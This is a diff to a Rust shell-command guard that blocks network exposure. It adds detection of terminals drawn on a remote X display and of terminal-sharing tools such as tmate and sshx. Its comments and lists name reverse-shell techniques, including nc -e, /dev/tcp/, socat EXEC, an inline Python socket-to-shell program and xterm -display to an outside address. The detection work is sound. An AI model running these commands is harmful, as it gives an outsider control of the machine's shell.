@@ -1,7 +1,8 @@
 //! Network exposure: bind flags parsed (`--host 0.0.0.0`, `--bind=::`, `-b 0.0.0.0`,
 //! `HOST=0.0.0.0`, `php -S 0.0.0.0:8000`, `python -m http.server` which binds every interface
 //! by default), docker `-p` publishing without a loopback address, host networking, tunnels
-//! (ngrok, cloudflared, `ssh -R`; not `ngrok version`), bind and reverse shells (`nc -e`,
+//! (ngrok, cloudflared, `ssh -R`, terminal sharing by tmate, upterm or sshx; not `ngrok
+//! version`), a terminal drawn on another machine's X display (`xterm -display HOST:1`), bind and reverse shells (`nc -e`,
 //! `socat ..EXEC`, `/dev/tcp/`, inline programs wiring a socket to `/bin/sh`), listeners (firewall teardown is the effect model's, `guard::effects`). Any option whose value is the
 //! every-interface address (`-h 0.0.0.0`, `--server.address 0.0.0.0`, `-a 0.0.0.0`,
 //! `-l tcp://0.0.0.0:3000`) is a bind; so is a bare `--host` to a JS dev server (vite, astro,
@@ -217,12 +218,61 @@ fn raw_protocol(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
     }
 }
 
+/// `xterm -display 203.0.113.7:1`, `DISPLAY=203.0.113.7:0 urxvt`: a terminal emulator (a
+/// shell in a window) drawn on another machine's X server: whoever sits there types into this
+/// machine's shell, a reverse shell by another protocol. Local displays (`:0`, `unix:0`,
+/// `localhost:10`, which ssh's X forwarding uses) are this machine's.
+fn remote_terminal(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
+    const TERMINALS: &[&str] = &[
+        "xterm",
+        "uxterm",
+        "rxvt",
+        "urxvt",
+        "rxvt-unicode",
+        "aterm",
+        "eterm",
+        "st",
+        "xfce4-terminal",
+        "gnome-terminal",
+        "konsole",
+        "terminator",
+        "alacritty",
+        "kitty",
+        "lxterminal",
+        "mate-terminal",
+    ];
+    if !TERMINALS.contains(&cmd.name()) {
+        return;
+    }
+    let remote = |display: &str| {
+        let host = display.rsplit_once(':').map_or("", |(h, _)| h);
+        let host = host.trim_start_matches("tcp/");
+        !host.is_empty() && !matches!(host, "localhost" | "unix" | "::1" | "[::1]") && !host.starts_with("127.")
+    };
+    let option = cmd
+        .argv
+        .windows(2)
+        .find_map(|w| matches!(w[0].as_str(), "-display" | "--display").then_some(w[1].as_str()));
+    let glued = cmd.argv.iter().find_map(|a| a.strip_prefix("--display="));
+    let variable = cmd.assignments.iter().find_map(|a| a.strip_prefix("DISPLAY="));
+    if let Some(display) = option.or(glued).or(variable).filter(|d| remote(d)) {
+        out.push(block(
+            Category::Network,
+            REVERSE_SHELL,
+            Risk::Critical,
+            cmd,
+            format!("opens a terminal on the X display `{display}` of another machine: whoever sits there runs this machine's shell"),
+        ));
+    }
+}
+
 pub fn check(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
     let name = cmd.name();
     let argv = &cmd.argv;
     let n = Category::Network;
     open_to_internet(cmd, out);
     raw_protocol(cmd, out);
+    remote_terminal(cmd, out);
     // Reverse / bind shells.
     // `python -c 'import socket,os..; s.connect((..)); os.dup2(..); subprocess.call(["/bin/sh"])'`:
     // an inline program wiring a socket to a shell.
@@ -358,6 +408,14 @@ pub fn check(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
             .iter()
             .any(|a| a == "-R" || a.starts_with("-R") || a.contains("serveo.net") || a.contains("localhost.run")),
         "tailscale" => argv.iter().any(|a| a == "funnel"),
+        // Terminal sharing: this machine's shell handed to whoever holds the session's link.
+        "tmate" | "sshx" | "teleconsole" => !argv.iter().skip(1).any(|a| {
+            matches!(
+                a.as_str(),
+                "-V" | "-h" | "--help" | "--version" | "help" | "version" | "show-messages"
+            )
+        }),
+        "upterm" => argv.iter().any(|a| a == "host"),
         // `npx localtunnel --port 3000`, `pnpm dlx ngrok http 80`.
         "npx" | "pnpx" | "bunx" | "pnpm" | "yarn" => argv
             .iter()
